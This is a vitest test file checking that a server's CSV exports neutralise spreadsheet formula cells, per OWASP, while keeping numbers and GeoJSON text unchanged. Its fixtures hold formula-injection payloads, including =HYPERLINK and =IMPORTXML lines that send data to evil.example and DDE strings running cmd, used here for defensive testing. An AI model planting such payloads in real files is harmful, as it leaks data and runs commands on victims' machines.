/**
 * Finding 2 of the hardening review: CSV exports carried formulas. Every CSV the server writes goes through one writer
 * that neutralises text a spreadsheet would run (OWASP: prefix `'`, quote the cell) while numbers stay numbers, and
 * GeoJSON carries the text unchanged.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { buildTestApp, FIXTURE_PASSWORD, type TestApp } from '../helpers/app';
import { toCsv } from '../../server/modules/exports/exports.service';
import { checklist, finding, getJson, join, login, postEvents } from '../helpers/events';

/** The six starts OWASP names: =, +, -, @, tab and carriage return. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
const ADDRESS = '=IMPORTXML("http://evil.example","//a")';
const DISTRICT = '@evil';

describe('finding 2: CSV exports neutralise formula cells', () => {
  let t: TestApp;
  let coordinator: string;

  async function download(file: string) {
    const res = await t.app.inject({
      method: 'GET',
      url: `/api/exports/${file}`,
      headers: { authorization: `Bearer ${coordinator}` },
    });
    expect(res.statusCode, res.body).toBe(200);
    return res.body;
  }
  const rowsOf = (body: string) =>
    parse(body, { comment: '#', columns: true, skip_empty_lines: true }) as Record<string, string>[];

  beforeAll(async () => {
    t = await buildTestApp('pglite');
    coordinator = await login(t.app, t.own.coordinator.username, FIXTURE_PASSWORD);
    const imported = await t.app.inject({
      method: 'POST',
      url: '/api/stations/import',
      headers: { authorization: `Bearer ${coordinator}`, 'content-type': 'text/csv' },
      payload: `number,name,address,district,lat,lng\n4242,School,"${ADDRESS.replaceAll('"', '""')}",${DISTRICT},42.87,74.6\n`,
    });
    expect(imported.statusCode, imported.body).toBe(200);
    const team = await join(t.app, t.own.joinCodes[0]!.code);
    const stations = (await getJson(t.app, coordinator, '/api/stations')).body.stations as {
      id: string;
      number: string;
    }[];
    const station = stations.find((s) => s.number === '4242')!.id;
    const events = PAYLOADS.map((text) => ({ ...finding(team.teamId, station, 'minor'), text }));
    const sheet = checklist(team.teamId, station, 'good');
    const withNotes = { ...sheet, form: 'voting-v1', answers: { ...sheet.answers, notes: PAYLOADS[0] } };
    const posted = await postEvents(t.app, team.token, [...events, withNotes]);
    expect(posted.statusCode, posted.body).toBe(200);
  });
  afterAll(async () => t?.close());

  it('findings.csv: each formula start is prefixed with a quote mark inside a quoted cell', async () => {
    const body = await download('findings.csv');
    const texts = rowsOf(body).map((r) => r.text);
    expect(texts.sort()).toEqual(PAYLOADS.map((p) => `'${p}`).sort());
    // Quoted in the file itself, not just read back: the raw text holds `"'=` and no line starts with a formula.
    expect(body).toContain(`"'=HYPERLINK(`);
    expect(body).toContain(`"'-2+3"`);
  });

  it('checklists.csv text answers and imported addresses and districts (stations, findings, districts.csv) are neutralised', async () => {
    const checklists = rowsOf(await download('checklists.csv'));
    expect(checklists.map((r) => r.notes)).toContain(`'${PAYLOADS[0]}`);
    const station = rowsOf(await download('stations.csv')).find((r) => r.number === '4242')!;
    expect(station.address).toBe(`'${ADDRESS}`);
    expect(station.district).toBe(`'${DISTRICT}`);
    const findings = rowsOf(await download('findings.csv'));
    expect(new Set(findings.map((r) => r.district))).toEqual(new Set([`'${DISTRICT}`]));
    const districts = rowsOf(await download('districts.csv'));
    expect(districts.map((r) => r.district)).toContain(`'${DISTRICT}`);
  });

  it('numbers stay numbers (a negative one too) and GeoJSON keeps the text as typed', async () => {
    const raw = await download('stations.csv');
    const line = raw.split('\n').find((l) => l.startsWith('4242,'))!;
    expect(line).toContain(',42.87,74.6,');
    // The rule is about text: a negative number is written as a number, the same characters as text are neutralised.
    expect(toCsv([[-3, '-3', 0, 'plain']])).toBe(`-3,"'-3",0,plain\n`);
    const geo = JSON.parse(await download('stations.geojson')) as {
      features: { properties: { number: string; address: string; district: string } }[];
    };
    const feature = geo.features.find((f) => f.properties.number === '4242')!;
    expect(feature.properties).toMatchObject({ address: ADDRESS, district: DISTRICT });
    const findings = JSON.parse(await download('findings.geojson')) as { features: { properties: { text: string } }[] };
    expect(findings.features.map((f) => f.properties.text).sort()).toEqual([...PAYLOADS].sort());
  });
});
